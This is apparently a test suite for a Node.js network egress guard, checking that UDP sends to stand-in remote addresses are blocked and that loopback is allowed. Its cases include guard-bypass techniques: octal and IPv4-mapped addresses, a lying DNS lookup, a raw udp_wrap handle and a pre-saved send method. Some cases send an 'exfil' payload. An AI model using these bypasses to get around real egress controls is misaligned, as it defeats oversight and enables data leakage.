// UDP: datagrams to the fake remotes in every form dgram accepts, and a datagram to loopback.
import dgram from 'node:dgram'

const lies = (_host, _options, cb) => cb(null, '198.18.0.10', 4)
const blocked = [
  ['udp-v4', 'dgram send to 198.18.0.10', (t) => ({ host: '198.18.0.10', port: t.port })],
  ['udp-name', 'dgram send to remote.test', (t) => ({ host: 'remote.test', port: t.port })],
  [
    'udp-unknown-name',
    'dgram send to a name only DNS knows',
    (t) => ({ host: 'dns-only.test', port: t.port }),
  ],
  ['udp-octal', 'dgram send to 0306.022.0.012', (t) => ({ host: '0306.022.0.012', port: t.port })],
  [
    'udp-connect',
    'dgram connect() then send()',
    (t) => ({ host: '198.18.0.10', port: t.port, connect: true }),
  ],
  ['udp-v6', 'udp6 send to 2001:db8::10', (t) => ({ type: 'udp6', host: '2001:db8::10', port: t.port })],
  [
    'udp-mapped',
    'udp6 send to ::ffff:198.18.0.10',
    (t) => ({ type: 'udp6', host: '::ffff:198.18.0.10', port: t.port }),
  ],
  [
    'udp-lookup-lies',
    "a socket whose lookup answers 'loop.test' with a remote address",
    (t) => ({ host: 'loop.test', port: t.port, lookup: lies }),
  ],
]

// The UDP handle layer (patches/dgram/udp-handle.ts) stops and records these; as at the TCP handle, the
// refusal can only be a status code (EACCES), so the error does not name egress-guard.
const HANDLE_STATUS =
  'refused at the UDP handle and recorded, nothing sent; a handle method can only return a status code, so the caller sees EACCES, not ERR_EGRESS_BLOCKED'
const known = {
  'udp-lookup-lies': HANDLE_STATUS,
}

export default [
  ...blocked.map(([id, title, target]) => ({
    id,
    title,
    verdict: 'blocked',
    ...(known[id] ? { knownEscape: known[id], knownFindings: ['unclear'] } : {}),
    async run({ guard, kit, t }) {
      await guard()
      return kit.udpSend(target(t))
    },
  })),
  {
    id: 'udp-wrap-raw',
    title: "process.binding('udp_wrap'): send on a raw UDP handle",
    verdict: 'blocked',
    knownEscape: HANDLE_STATUS,
    knownFindings: ['unclear'],
    async run({ guard, kit, t }) {
      await guard()
      const { UDP, SendWrap } = kit.binding('udp_wrap')
      const handle = new UDP()
      handle.bind('0.0.0.0', 0, 0)
      return kit.timeout(
        new Promise((resolve, reject) => {
          const req = new SendWrap()
          req.oncomplete = (status) =>
            status < 0 ? reject(new Error(`udp_wrap send status ${status}`)) : resolve('sent')
          const status = handle.send(req, [Buffer.from('exfil')], 1, t.port, '198.18.0.10', true)
          if (status < 0) reject(new Error(`udp_wrap send returned ${status}`))
          else if (status > 0) resolve('sent')
        }),
      )
    },
  },
  {
    id: 'udp-saved-send',
    title: 'dgram.Socket.prototype.send saved before the guard, called after it',
    verdict: 'blocked',
    async run({ guard, kit, t }) {
      const saved = dgram.Socket.prototype.send
      await guard()
      const socket = dgram.createSocket('udp4')
      return kit.timeout(
        new Promise((resolve, reject) =>
          saved.call(socket, Buffer.from('exfil'), t.port, '198.18.0.10', (e) => {
            socket.close()
            if (e) reject(e)
            else resolve('sent')
          }),
        ),
      )
    },
  },
  {
    id: 'udp-loopback',
    title: 'dgram send to 127.0.0.1: allowed',
    verdict: 'allowed',
    reach: 'loopback.datagrams',
    async run({ guard, kit, t }) {
      await guard()
      return kit.udpSend({ host: '127.0.0.1', port: t.port })
    },
  },
]
